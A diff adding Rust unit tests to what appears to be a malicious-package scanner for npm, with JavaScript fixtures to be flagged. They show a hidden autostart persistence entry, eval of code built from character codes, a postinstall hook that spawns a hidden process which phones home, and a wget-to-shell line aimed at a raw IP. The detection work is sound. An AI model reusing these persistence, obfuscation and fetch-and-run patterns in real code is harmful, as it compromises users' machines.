@@ -293,6 +293,98 @@ mod tests {
         crate::scan_files(files, &ScanOptions::default()).verdict
     }
 
+    fn judged(path: &str, src: &str) -> (Verdict, Vec<String>) {
+        let files = vec![
+            (
+                "package.json".to_string(),
+                br#"{"name":"a","version":"1.0.0","main":"index.js"}"#.to_vec(),
+            ),
+            (path.to_string(), src.as_bytes().to_vec()),
+        ];
+        let r = crate::scan_files(files, &ScanOptions::default());
+        (r.verdict, r.reasons)
+    }
+
+    /// An autostart entry written for a program that is then started detached with no output:
+    /// persist + hide in one file.
+    const AUTOSTART_HIDDEN: &str = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { spawn } = require('child_process');\nfs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\\nNoDisplay=true\\nExec=' + process.execPath + ' ' + agent);\nspawn(process.execPath, [agent], { detached: true, stdio: 'ignore' }).unref();\n";
+
+    #[test]
+    fn autostart_entry_with_a_hidden_process_is_a_persist_hide_chain() {
+        let (v, reasons) = judged("lib/sync.js", AUTOSTART_HIDDEN);
+        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
+        assert!(
+            reasons
+                .iter()
+                .any(|r| r.contains("to stay on the machine") && r.contains("hides what it does")),
+            "{reasons:?}"
+        );
+    }
+
+    #[test]
+    fn autostart_entry_written_in_plain_sight_is_not_malicious() {
+        // an app's "start at login" setting: persistence, nothing hidden
+        let src = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nexports.enable = () => fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'app.desktop'), '[Desktop Entry]\\nExec=' + process.execPath);\n";
+        let (v, reasons) = judged("lib/login-item.js", src);
+        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
+    }
+
+    /// Code built from character codes and evaluated: execute + hide in one file.
+    const CHARCODE_EVAL: &str = "const k = [99,111,110,115,111,108,101,46,108,111,103,40,49,41];\nconst src = String.fromCharCode.apply(null, k.map((c) => c ^ 0));\nmodule.exports = function start() { return eval(src); };\n";
+
+    #[test]
+    fn evaluating_code_built_from_char_codes_is_an_execute_hide_chain() {
+        let (v, reasons) = judged("lib/affinity.js", CHARCODE_EVAL);
+        eprintln!("{reasons:?}");
+        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
+    }
+
+    #[test]
+    fn the_same_in_a_large_bundle_is_not_a_chain() {
+        // a bundle of many modules: each link counts one step less
+        let filler = "function m(a){return a+1}\n".repeat(4000);
+        let src = format!("{filler}{CHARCODE_EVAL}");
+        let (v, reasons) = judged("dist/bundle.js", &src);
+        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
+    }
+
+    fn judged_install(files: &[(&str, &str)]) -> (Verdict, Vec<String>) {
+        let mut all = vec![(
+            "package.json".to_string(),
+            br#"{"name":"a","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node lib/warm.js"}}"#.to_vec(),
+        )];
+        all.extend(
+            files
+                .iter()
+                .map(|(p, s)| (p.to_string(), s.as_bytes().to_vec())),
+        );
+        let r = crate::scan_files(all, &ScanOptions::default());
+        (r.verdict, r.reasons)
+    }
+
+    #[test]
+    fn install_step_that_hides_a_process_and_phones_home_from_another_file_is_a_chain() {
+        // the links sit in two files, both run at install time
+        let warm = "const { spawn } = require('child_process');\nrequire('./worker');\nspawn(process.execPath, [require.resolve('./worker')], { detached: true, stdio: 'ignore' }).unref();\n";
+        let worker = "const https = require('https');\nhttps.get('https://updates.example/poll', (r) => r.resume());\n";
+        let (v, reasons) = judged_install(&[("lib/warm.js", warm), ("lib/worker.js", worker)]);
+        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
+        assert!(
+            reasons
+                .iter()
+                .any(|r| r.starts_with("code run at install time:")),
+            "{reasons:?}"
+        );
+    }
+
+    #[test]
+    fn install_step_that_downloads_a_binary_in_plain_sight_is_not_malicious() {
+        // the prebuilt-binary pattern: network and a visible process, nothing hidden
+        let warm = "const https = require('https');\nconst { execFileSync } = require('child_process');\nhttps.get('https://downloads.example/tool.tgz', (r) => r.resume());\nexecFileSync('tar', ['xzf', 'tool.tgz'], { stdio: 'inherit' });\n";
+        let (v, reasons) = judged_install(&[("lib/warm.js", warm)]);
+        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
+    }
+
     #[test]
     fn pipe_to_shell_from_a_raw_ip_is_malicious() {
         let src = "const cp = process.getBuiltinModule('child_process');\ncp.execFile('/bin/sh', ['-c', 'wget -qO- http://192.0.2.200/l | sh'], () => {});";
